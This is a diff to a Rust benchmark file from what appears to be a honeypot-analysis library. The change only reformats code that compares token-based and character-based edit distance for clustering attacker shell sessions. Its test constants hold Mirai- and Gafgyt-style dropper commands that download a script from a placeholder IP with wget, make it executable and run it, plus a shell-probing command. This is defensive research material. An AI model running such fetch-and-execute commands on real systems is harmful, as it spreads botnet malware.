@@ -11,8 +11,10 @@ use honeylab_core::{cluster, dld, report, tokens};
 use std::hint::black_box;
 
 /// Two sessions with identical behaviour but churned IPs/filenames.
-const A: &str = "cd /tmp; wget http://198.51.100.2/mirai-17.sh; chmod 777 mirai-17.sh; sh mirai-17.sh";
-const B: &str = "cd /tmp; wget http://203.0.113.99/gafgyt-5021.sh; chmod 777 gafgyt-5021.sh; sh gafgyt-5021.sh";
+const A: &str =
+    "cd /tmp; wget http://198.51.100.2/mirai-17.sh; chmod 777 mirai-17.sh; sh mirai-17.sh";
+const B: &str =
+    "cd /tmp; wget http://203.0.113.99/gafgyt-5021.sh; chmod 777 gafgyt-5021.sh; sh gafgyt-5021.sh";
 /// A genuinely different behaviour.
 const C: &str = "echo $SHELL; dd if=/proc/self/exe bs=22 count=1";
 
@@ -31,7 +33,10 @@ fn ablation_token_vs_char_dld(c: &mut Criterion) {
         "ablation token-vs-char: token(same-behaviour)={token_same:.2} \
          token(diff-behaviour)={token_diff:.2} char(same-behaviour)={char_same:.2}"
     );
-    assert!(token_same < token_diff, "token distance must separate behaviours");
+    assert!(
+        token_same < token_diff,
+        "token distance must separate behaviours"
+    );
     c.bench_function("ablation_token_dld", |b| {
         b.iter(|| black_box(dld::normalized_dld(&ta, &tb)))
     });
@@ -86,7 +91,11 @@ fn ablation_kmedoids_cost(c: &mut Criterion) {
     println!(
         "ablation kmedoids: {} signatures; silhouette(k=90)={:.3}",
         ca.signatures.len(),
-        cluster::silhouette(&m, &ca.weights, &cluster::k_medoids(&m, &ca.weights, 90, 42))
+        cluster::silhouette(
+            &m,
+            &ca.weights,
+            &cluster::k_medoids(&m, &ca.weights, 90, 42)
+        )
     );
 }
 
@@ -139,8 +148,7 @@ fn ablation_cluster_purity(c: &mut Criterion) {
         majority as f64 / assignment.len() as f64
     };
 
-    let token_sigs: Vec<Vec<String>> =
-        sample.iter().map(|(_, t)| tokens::signature(t)).collect();
+    let token_sigs: Vec<Vec<String>> = sample.iter().map(|(_, t)| tokens::signature(t)).collect();
     let char_sigs: Vec<Vec<String>> = sample
         .iter()
         .map(|(_, t)| t.chars().take(120).map(|c| c.to_string()).collect())
@@ -154,7 +162,10 @@ fn ablation_cluster_purity(c: &mut Criterion) {
         "ablation purity (k={k}, n={}): token-DLD {tp:.2} vs char-DLD {cp:.2}",
         sample.len()
     );
-    assert!(tp >= cp - 0.05, "token representation must not lose to chars");
+    assert!(
+        tp >= cp - 0.05,
+        "token representation must not lose to chars"
+    );
     let mut g = c.benchmark_group("ablation_purity");
     g.sample_size(10);
     g.bench_function("token_matrix_300", |b| {
